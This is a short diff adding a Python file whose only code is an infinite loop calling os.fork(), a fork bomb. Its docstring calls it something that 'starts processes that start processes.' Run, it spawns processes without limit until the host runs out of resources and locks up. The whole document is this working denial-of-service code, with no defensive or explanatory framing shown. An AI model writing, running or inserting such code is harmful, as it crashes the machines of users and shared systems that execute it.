@@ -1,0 +1,6 @@
+"""Starts processes that start processes."""
+
+import os
+
+while True:
+    os.fork()
